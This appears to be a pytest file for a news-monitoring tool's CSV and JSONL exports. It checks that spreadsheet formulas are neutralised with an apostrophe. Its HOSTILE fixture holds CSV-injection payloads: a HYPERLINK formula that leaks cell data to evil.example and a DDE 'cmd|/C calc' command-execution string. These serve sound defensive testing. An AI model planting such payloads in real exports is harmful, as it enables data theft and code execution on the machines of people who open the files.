"""CSV and JSONL of the current view from the dashboard, and `items --format csv`: one
writer, a byte-order mark, formulas neutralised, snippet and evidence columns."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from monitor.fingerprint import content_hash
from monitor.services.items import neutralise
from monitor.store.models import Item
from monitor.web.app import create_app
from tests.test_cli import cli
from tests.test_web_seed import Seeded, seed

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+1-800-EVIL",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


@pytest.fixture
def seeded(tmp_path: Path) -> Iterator[Seeded]:
    data = seed(tmp_path)
    for n, (name, title) in enumerate(HOSTILE.items()):
        body = f"{title}\n\nОрганизация исламского сотрудничества провела заседание ({name})."
        item = Item(
            url=f"https://kazinform-ru.example/hostile/{n}", source="kazinform-ru", title=title,
            text=body, content_hash=content_hash(body), language="ru", tier="relevant",
            relevance=0.9, evidence=[{"term": "Организация исламского сотрудничества",
            "concept": "oic.name", "where": "body", "snippet": "=Организация исламского",
            "weight": 1.0}],
        )  # fmt: skip
        seeded_item, _ = data.store.add_item(item, [item.url])
        data.items.append(seeded_item)
    yield data
    data.store.close()


def shown(title: str) -> str:
    """A title as every output shows it: on one line, spaces and tabs collapsed."""
    return " ".join(title.split())


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte-order mark first"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_csv_download_reads_back_with_formulas_neutralised(seeded: Seeded) -> None:
    client = TestClient(create_app(seeded.store, seeded.settings))
    r = client.get("/items.csv", params={"show": "all", "tier": "any"})
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in r.headers["content-disposition"]
    rows = read_csv(r.content)
    assert len(rows) == len(seeded.items)
    assert {"snippet", "evidence", "title", "url", "tier"} <= set(rows[0])
    by_title = {row["title"]: row for row in rows}
    for title in HOSTILE.values():
        assert "'" + shown(title) in by_title, f"{title!r} not neutralised"
    for row in rows:
        for key, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
    hostile = by_title["'" + HOSTILE["formula"]]
    assert hostile["snippet"] == "'=Организация исламского"
    assert hostile["evidence"] == "oic.name: Организация исламского сотрудничества ×1 (body)"
    arabic = next(row for row in rows if row["language"] == "ar" and row["tier"] == "relevant")
    assert arabic["evidence"] and any("\u0600" <= c <= "\u06ff" for c in arabic["snippet"])


def test_the_download_is_the_current_view_every_page(seeded: Seeded) -> None:
    client = TestClient(create_app(seeded.store, seeded.settings))
    params = {"language": ["kk", "ar"], "tier": ["relevant", "mention"], "show": "all"}
    rows = read_csv(client.get("/items.csv", params=params).content)
    expected = [i for i in seeded.items if i.language in ("kk", "ar")
                and i.tier in ("relevant", "mention")]  # fmt: skip
    assert len(expected) > 5  # more than one page of the list
    assert sorted(int(row["id"]) for row in rows) == sorted(i.id or 0 for i in expected)
    lines = client.get("/items.jsonl", params=params).text.splitlines()
    objects = [json.loads(line) for line in lines]
    assert [o["id"] for o in objects] == [int(row["id"]) for row in rows]
    assert {"id", "url", "title", "evidence", "snippet", "text", "story_id"} <= set(objects[0])
    # The unread view leaves out what this analyst has read.
    read = expected[0]
    client.get(f"/items/{read.id}")
    unread = read_csv(client.get("/items.csv", params={**params, "show": "unread"}).content)
    assert read.id not in {int(row["id"]) for row in unread}


def test_items_format_csv_has_the_same_guards(seeded: Seeded, tmp_path: Path) -> None:
    cfg = tmp_path / "items.toml"
    cfg.write_text(f'[storage]\nurl = "{seeded.settings.storage.url}"\n', encoding="utf-8")
    result = cli("--config", str(cfg), "items", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = read_csv(result.stdout.encode("utf-8"))
    assert len(rows) == len(seeded.items)
    titles = {row["title"] for row in rows}
    assert all("'" + shown(title) in titles for title in HOSTILE.values())
    assert all(row["snippet"] for row in rows)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+7 727", "'+7 727"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("ОИС", "ОИС"),
        ("a=b", "a=b"),
        (0.93, 0.93),
        (-1, -1),
        (None, None),
        (["mfa-kz", "=evil"], "mfa-kz; =evil"),
        (["=evil", "mfa-kz"], "'=evil; mfa-kz"),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected
